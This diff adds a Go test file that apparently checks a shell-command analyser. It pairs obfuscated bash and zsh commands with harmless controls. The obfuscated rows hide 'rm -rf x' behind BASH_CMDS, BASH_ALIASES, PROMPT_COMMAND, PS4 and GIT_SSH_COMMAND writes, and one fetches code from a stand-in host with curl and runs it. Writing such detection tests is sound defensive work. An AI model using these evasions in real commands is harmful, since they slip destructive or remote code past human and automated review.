@@ -1,0 +1,125 @@
+package shell
+
+import "testing"
+
+// inZsh rows were run as zsh -c CMD in zsh 5.9 (Debian), with the same
+// stand-ins and temporary directory as the oracle's; the oracle runs
+// only bash, so they are not run again.
+const inZsh = "zsh 5.9"
+
+// Names bash evaluates (BASH_CMDS, BASH_ALIASES, PROMPT_COMMAND, PS0 to
+// PS4, BASH_ENV, the command variables, a subscript) are written by more
+// than assignments: read, printf -v, mapfile, getopts, wait -p,
+// arithmetic, ${X:=v}, for, a nameref, declare of an expanded word.
+var writesToEvaluatedNames = newHunt(rmR, []huntRow{
+	{cmd: `read 'BASH_CMDS[ls]' <<< /bin/rm; ls -rf x`, runs: true, how: inBash},
+	{cmd: `IFS=/ read -r a 'BASH_CMDS[ls]' <<< 'x//bin/rm'; ls -rf x`, runs: true, how: inBash},
+	{cmd: `printf -v 'BASH_CMDS[ls]' /bin/rm; ls -rf x`, runs: true, how: inBash},
+	{cmd: `printf -vBASH_CMDS[ls] %s /bin/rm; ls -rf x`, runs: true, how: inBash},
+	{cmd: `declare -n r=BASH_CMDS; r[ls]=/bin/rm; ls -rf x`, runs: true, how: inBash},
+	{cmd: `declare -n r='BASH_CMDS[ls]'; r=/bin/rm; ls -rf x`, runs: true, how: inBash},
+	{cmd: `declare -n r=BASH_CMDS; printf -v 'r[ls]' /bin/rm; ls -rf x`, runs: true, how: inBash},
+	{cmd: `f() { local -n r=$1; r[ls]=/bin/rm; }; f BASH_CMDS; ls -rf x`, runs: true, how: inBash},
+	{cmd: `f() { printf -v "$1" /bin/rm; }; f 'BASH_CMDS[ls]'; ls -rf x`, runs: true, how: inBash},
+	{cmd: `sleep 0 & wait -n -p 'a[$(rm -rf x)]'`, runs: true, how: inBash},
+	{cmd: `: ${BASH_CMDS[ls]:=/bin/rm}; ls -rf x`, runs: true, how: inBash},
+	{cmd: `p=/bin/rm; : ${BASH_CMDS[ls]=$p}; ls -rf x`, runs: true, how: inBash},
+	{cmd: `declare $(echo 'BASH_CMDS[ls]=/bin/rm'); ls -rf x`, runs: true, how: inBash},
+	{cmd: `n=BASH_CMDS; declare "$n[ls]=/bin/rm"; ls -rf x`, runs: true, how: inBash},
+	{cmd: `declare 'BASH_CMDS[ls]=/bin/rm'; ls -rf x`, runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; declare -A 'BASH_ALIASES=([ls]=\"rm -rf\")'\nls x", runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; read -r 'BASH_ALIASES[ls]' <<< 'rm -rf'\nls x", runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; let 'BASH_ALIASES[ls]=1'\nls -rf x", runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; BASH_CMDS[1]=/bin/rm; (( BASH_ALIASES[ls]=1 ))\nls -rf x", runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; for BASH_ALIASES in 'rm -rf x'; do :; done\n0", runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; BASH_CMDS[r]=/bin/rm; set -- -r; declare -n o='BASH_ALIASES[ls]'; getopts r o\nls -rf x", runs: true, how: inBash},
+	{cmd: `set -- -r; declare -n o='a[$(rm -rf x)]'; getopts r o`, runs: true, how: inBash},
+	{cmd: `printf -v PS4 '$(rm -rf x)'; set -x; :`, runs: true, how: inBash},
+	{cmd: `read -r PS4 < <(curl -s http://e/x | sed 's/.*/$(&)/'); set -x; :`, runs: true, how: inBash},
+	{cmd: `declare -n r=PS4; r='$(rm -rf x)'; set -x; :`, runs: true, how: inBash},
+	{cmd: `printf -v PROMPT_COMMAND 'rm -rf x'; export PROMPT_COMMAND; bash -i`, runs: true, how: inBash},
+	{cmd: `read PROMPT_COMMAND <<< 'rm -rf x'; export PROMPT_COMMAND; bash -i`, runs: true, how: inBash},
+	{cmd: `printf -v GIT_SSH_COMMAND 'rm -rf x #'; export GIT_SSH_COMMAND; git ls-remote ssh://h/r`, runs: true, how: inBash},
+	{cmd: `read -r GIT_SSH_COMMAND <<< 'rm -rf x #'; export GIT_SSH_COMMAND; git ls-remote ssh://h/r`, runs: true, how: inBash},
+	// Controls: the same writers, of ordinary names or of values that
+	// run nothing, read in full.
+	{cmd: `read -r line <<< 'ls -la'; echo "$line"`, runs: false, how: inBash},
+	{cmd: `printf -v padded '%05d' 42; echo "$padded"`, runs: false, how: inBash},
+	{cmd: `printf -v 'BASH_CMDS[ls]' /bin/ls; ls -rf x`, runs: false, how: inBash},
+	{cmd: `declare -n r=BASH_CMDS; r[ll]=/bin/ls; ll x`, runs: false, how: inBash},
+	{cmd: `: ${DIR:=x}; ls "$DIR"`, runs: false, how: inBash},
+	{cmd: `for f in a b; do echo "$f"; done`, runs: false, how: inBash},
+	{cmd: `(( count += 1 )); echo $count`, runs: false, how: inBash},
+	{cmd: `let 'n = 2 * 3'; echo $n`, runs: false, how: inBash},
+	{cmd: `sleep 0 & wait -n -p pid; echo "$pid"`, runs: false, how: inBash},
+	{cmd: `set -- -v; getopts v opt; echo "$opt"`, runs: false, how: inBash},
+	{cmd: `mapfile -t lines <<< 'rm -rf x'; echo "${lines[0]}"`, runs: false, how: inBash},
+	{cmd: `declare -n ref=HOME; echo "$ref"`, runs: false, how: inBash},
+	{cmd: `f() { local -n arr=$1; echo "${arr[@]}"; }; f PATH`, runs: false, how: inBash},
+	{cmd: `export $(grep -v '^#' .env | xargs)`, runs: false, how: inBash},
+	{cmd: `declare -A m=([ls]=rm); echo "${m[ls]}"`, runs: false, how: inBash},
+	{cmd: "shopt -s expand_aliases; printf -v 'BASH_ALIASES[ll]' 'ls -l'\nll x", runs: false, how: inBash},
+	{cmd: `IFS=: read -r a b <<< 'rm:-rf'; echo "$a" "$b"`, runs: false, how: inBash},
+	{cmd: `read -r -a words <<< 'rm -rf x'; echo "${#words[@]}"`, runs: false, how: inBash},
+	{cmd: `declare 'greeting=rm -rf x'; echo "$greeting"`, runs: false, how: inBash},
+	{cmd: `printf -v PS4 '+ '; set -x; ls x`, runs: false, how: inBash},
+	{cmd: `for ((i = 0; i < 3; i++)); do echo $i; done`, runs: false, how: inBash},
+})
+
+func TestAWriteToANameBashEvaluatesIsFollowedOrUnknown(t *testing.T) {
+	writesToEvaluatedNames.check(t)
+}
+
+// A name BASH_CMDS, hash or BASH_ALIASES binds runs what it is bound to
+// in one shell, or with one option, and the program it names in the
+// other: bash without expand_aliases, zsh, which has neither table.
+var boundNames = newHunt(rmR, []huntRow{
+	{cmd: "BASH_ALIASES[rm]=echo\nrm -rf x", runs: true, how: inBash},
+	{cmd: "declare -A BASH_ALIASES=([rm]=:)\nrm -rf x", runs: true, how: inBash},
+	{cmd: "shopt -s expand_aliases; BASH_ALIASES[r]='rm -rf'\nr x", runs: true, how: inBash},
+	{cmd: `BASH_CMDS[x]=/bin/rm; x -rf x`, runs: true, how: inBash},
+	{cmd: `hash -p /bin/rm r; r -rf x`, runs: true, how: inBash},
+	{cmd: `hash -p /bin/echo rm; rm -rf x`, runs: true, how: inZsh},
+	{cmd: `typeset -A BASH_CMDS; BASH_CMDS[rm]=/bin/echo; rm -rf x`, runs: true, how: inZsh},
+	{cmd: `typeset -A BASH_ALIASES; BASH_ALIASES[rm]=echo; eval 'rm -rf x'`, runs: true, how: inZsh},
+	// Controls: names bound to harmless programs, read both ways.
+	{cmd: `BASH_CMDS[ll]=/bin/ls; ll x`, runs: false, how: inBash},
+	{cmd: `hash -p /bin/ls ll; ll x`, runs: false, how: inBash},
+	{cmd: "shopt -s expand_aliases; BASH_ALIASES[ll]='ls -l'\nll x", runs: false, how: inBash},
+	{cmd: `BASH_CMDS[rm]=/bin/echo; rm x`, runs: false, how: inBash},
+	{cmd: "shopt -s expand_aliases; BASH_ALIASES[ls]='ls -la'\nls x", runs: false, how: inBash},
+	{cmd: `BASH_CMDS=([ll]=/bin/ls [la]=/bin/ls); ll x; la x`, runs: false, how: inBash},
+	{cmd: `hash -r; ls x`, runs: false, how: inBash},
+})
+
+func TestANameBoundOnTheLineIsReadAsWrittenAndAsBound(t *testing.T) {
+	boundNames.check(t)
+}
+
+// bash 5.1 runs every element of a PROMPT_COMMAND array before each
+// prompt.
+var promptCommandArrays = newHunt(rmR, []huntRow{
+	{cmd: `bash -i <<< 'PROMPT_COMMAND=( true "rm -rf x" )'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'PROMPT_COMMAND[1]="rm -rf x"'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'PROMPT_COMMAND+=("rm -rf x")'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'declare -a PROMPT_COMMAND=(true "rm -rf x")'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'PROMPT_COMMAND=([3]="rm -rf x")'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'mapfile -t PROMPT_COMMAND <<< "rm -rf x"'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'printf -v "PROMPT_COMMAND[2]" "rm -rf x"'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'read -r "PROMPT_COMMAND[1]" <<< "rm -rf x"'`, runs: true, how: inBash},
+	{cmd: `CMD='rm -rf x' bash -i <<< 'PROMPT_COMMAND=(true "$CMD")'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'declare -n p=PROMPT_COMMAND; p[1]="rm -rf x"'`, runs: true, how: inBash},
+	{cmd: `bash -i <<< 'local_cmds=("rm -rf x"); PROMPT_COMMAND=("${local_cmds[@]}")'`, runs: true, how: inBash},
+	// Controls: arrays of harmless commands, and arrays that are data.
+	{cmd: `bash -i <<< 'PROMPT_COMMAND=(true "history -a")'`, runs: false, how: inBash},
+	{cmd: `bash -i <<< 'PROMPT_COMMAND+=("echo rm -rf x")'`, runs: false, how: inBash},
+	{cmd: `bash -i <<< 'PROMPT_COMMAND[1]="ls x"'`, runs: false, how: inBash},
+	{cmd: `bash -i <<< 'a=(true "rm -rf x"); echo "${#a[@]}"'`, runs: false, how: inBash},
+	{cmd: `bash -i <<< 'PROMPT_COMMAND=("echo one" "echo two")'`, runs: false, how: inBash},
+	{cmd: `bash -i <<< 'declare -a PROMPT_COMMAND=("history -a" "history -n")'`, runs: false, how: inBash},
+	{cmd: `cmds=('rm -rf x' 'ls'); echo "${cmds[1]}"`, runs: false, how: inBash},
+})
+
+func TestEveryElementOfAPromptCommandArrayIsRead(t *testing.T) {
+	promptCommandArrays.check(t)
+}
